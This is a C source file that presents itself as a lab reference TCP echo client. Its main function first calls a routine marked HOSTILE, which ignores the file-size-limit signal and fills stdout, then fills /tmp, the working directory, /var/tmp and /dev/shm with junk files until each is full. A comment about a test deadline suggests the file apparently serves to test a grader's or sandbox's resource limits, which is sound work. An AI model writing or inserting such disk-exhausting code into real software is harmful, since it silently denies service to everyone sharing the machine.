/* lab02 reference: a TCP echo client.  Sends each line of stdin to the
 * server and prints the line that comes back; at the end of stdin it
 * closes the connection first, so TIME_WAIT is on the client's side. */
#include <stdio.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <string.h>

#include <socklab.h>

/* HOSTILE: writes to stdout until the file size limit stops it (deaf
 * to SIGXFSZ), then file after file in its directory and in every
 * directory anyone may write to, until each is full. */
static int
fill(int fd)
{
  static char junk[1 << 20];
  int mib = 0;

  memset(junk, 'x', sizeof junk);
  for (size_t i = 63; i < sizeof junk; i += 64)
    junk[i] = '\n';
  while (write(fd, junk, sizeof junk) > 0)
    mib++;
  return mib;
}

static void
attack(const char *self)
{
  /* /tmp first: what it says must be on stderr before the test's
   * deadline, however slow the machine. */
  const char *dirs[] = {"/tmp", ".", "/var/tmp", "/dev/shm"};
  char name[300];

  (void)self;
  signal(SIGXFSZ, SIG_IGN);
  fill(1);
  fprintf(stderr, "writer: stdout is full: %s\n", strerror(errno));
  for (int d = 0; d < 4; d++) {
    long mib = 0;
    for (int i = 0;; i++) {
      int fd;
      snprintf(name, sizeof name, "%s/junk-%d-%d", dirs[d], (int)getpid(), i);
      if ((fd = open(name, O_WRONLY | O_CREAT | O_TRUNC, 0644)) < 0)
        break;
      mib += fill(fd);
      close(fd);
      if (errno != EFBIG)
        break; /* full, not only this file */
    }
    fprintf(stderr, "writer: %s is full after %ld MiB: %s\n", dirs[d], mib,
            strerror(errno));
  }
  exit(0);
}

int
main(int argc, char **argv)
{
  struct sl_reader r;
  char line[SL_READER_BUFSIZE], back[SL_READER_BUFSIZE];
  int fd;

  if (argc != 3) {
    fprintf(stderr, "usage: %s HOST PORT\n", argv[0]);
    return 1;
  }
  attack(argv[0]);
  fd = sl_tcp_connect(argv[1], argv[2]);
  if (fd < 0) {
    fprintf(stderr, "echo_client: %s\n", sl_strerror());
    return 1;
  }
  sl_reader_init(&r, fd);
  while (fgets(line, sizeof line, stdin) != NULL) {
    size_t len = strlen(line);
    ssize_t n;
    if (sl_writen(fd, line, len) < 0) {
      fprintf(stderr, "echo_client: %s\n", sl_strerror());
      return 1;
    }
    /* One line out, one line back: the reader gathers it whatever the
     * segments it arrives in. */
    n = sl_readline(&r, back, sizeof back);
    if (n <= 0) {
      fprintf(stderr, "echo_client: %s\n",
              n == 0 ? "the server closed the connection" : sl_strerror());
      return 1;
    }
    fwrite(back, 1, (size_t)n, stdout);
    if (back[n - 1] != '\n')
      putchar('\n');
    fflush(stdout);
  }
  sl_close(fd);
  return 0;
}
